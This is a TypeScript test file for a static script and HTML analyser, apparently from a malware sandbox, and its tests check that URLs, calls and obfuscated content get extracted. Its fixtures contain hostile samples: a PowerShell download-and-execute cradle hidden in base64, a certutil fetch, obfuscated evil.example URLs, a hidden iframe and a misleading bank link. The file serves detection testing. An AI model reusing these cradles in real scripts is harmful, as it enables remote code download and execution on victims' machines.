import { expect, test } from 'vitest';
import { memoryTask, runModule } from '../../tests/support/memory-task.ts';
import Static from './static.ts';

type Json = { [name: string]: unknown };

async function statics(binary: Uint8Array | string, file_name: string, info: Json = {}) {
  const { value, problems } = await runModule(Static, memoryTask({ binary }, { info: { file_name, ...info } }));
  return { ...(value as { script?: Json; html?: Json; wsf?: string[] }), codes: problems.map(({ code }) => code) };
}
const names = (script: Json | undefined) => (script!['calls'] as { name: string }[]).map(({ name }) => name);

test('a script has calls, URLs and what it hides', async () => {
  const inner = `IEX (New-Object Net.WebClient).DownloadString("http://evil.example/b"); ${'#'.repeat(40)}`;
  const text =
    `var s = new ActiveXObject("WScr" + "ipt.Shell");\r\n` +
    `s.Run("power^shell -enc ${Buffer.from(inner, 'utf16le').toString('base64')}");\r\n` +
    String.raw`u = "\x68\x74\x74\x70\x3a\x2f\x2fevil.example\x2fa";` +
    `\r\nx = 'ht' + 'tp://evil.example/c';`;
  const { script, codes } = await statics(text, 'a.js');
  expect(codes).toEqual([]);
  expect(script).toMatchObject({
    ...{
      language: 'javascript',
      encoding: 'ascii',
      lines: 4,
      urls: ['http://evil.example/c', 'http://evil.example/b'],
    },
    decoded: [
      { how: 'escapes', within: null, text: 'http://' },
      { how: 'base64', within: null, text: inner, length: inner.length },
    ],
  });
  expect(names(script)).toEqual(
    expect.arrayContaining(['ActiveXObject', 'WScript.Shell', 'powershell', 'IEX', 'DownloadString', 'Net.WebClient']),
  );
  expect(JSON.parse(JSON.stringify(script))).toEqual(script);
});

test('encoded scripts are decoded', async () => {
  const { script } = await statics('#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@', 'a.vbe');
  expect(script).toMatchObject({ language: 'vbscript', decoded: [{ how: 'script_encoder', text: 'MsgBox "Hello"' }] });
});

test('a page has what it leads to, loads and runs', async () => {
  const { html, script } = await statics(
    '<!DOCTYPE html><iframe src="http://evil.example/f" width=1></iframe>' +
      '<a href="http://evil.example/">www.bank.example</a><script>eval(atob("eA=="))</script>' +
      '<object classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>',
    'page',
  );
  expect(script).toMatchObject({ language: 'html', urls: ['http://evil.example/f', 'http://evil.example/'] });
  expect(names(script)).toEqual(['eval', 'atob']);
  expect(html).toMatchObject({
    frames: [{ url: 'http://evil.example/f', is_hidden: true }],
    links: [{ url: 'http://evil.example/', text: 'www.bank.example', is_misleading: true }],
    scripts: [{ url: '', length: 18 }],
    objects: [{ class_id: 'clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8' }],
  });
});

test('a Windows script file has its scripts as Cuckoo lists them', async () => {
  const { wsf } = await statics(
    '<job><script language="VBScript.Encode">#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@</script>' +
      '<script language="JScript">var a = 1;</script></job>',
    'a.wsf',
  );
  expect(wsf).toEqual(['MsgBox "Hello"', 'var a = 1;']);
});

test('text in UTF-16 is read', async () => {
  const { script } = await statics(Buffer.from('\ufeffcertutil -urlcache http://evil.example/x', 'utf16le'), 'a.bat');
  expect(script).toMatchObject({ language: 'batch', encoding: 'utf-16le', urls: ['http://evil.example/x'] });
  expect(names(script)).toEqual(['certutil']);
});

test('bytes are no script, whatever their name is', async () => {
  expect((await statics(Buffer.from([1, 0, 2, 0, 0, 3, 0]), 'a.js')).script).toBeUndefined();
  expect((await statics('just text', 'a.txt')).script).toBeUndefined();
  expect((await statics('', 'a.js')).script).toBeUndefined();
  expect((await statics('x = 1', 'a', { package: 'ps1' })).script).toMatchObject({ language: 'powershell' });
});

test.each(['QUJDREVG', '0123456789abcdef', '\\x41\\x42', '%41%42'])(
  'a script of nothing but %s is read',
  async (unit) => {
    const { script, codes } = await statics(`x ${unit.repeat(Math.ceil((5 << 20) / unit.length))}`, 'a.ps1');
    expect([script!['length'], codes]).toEqual([4 << 20, ['STATIC_TOO_LARGE']]);
  },
);
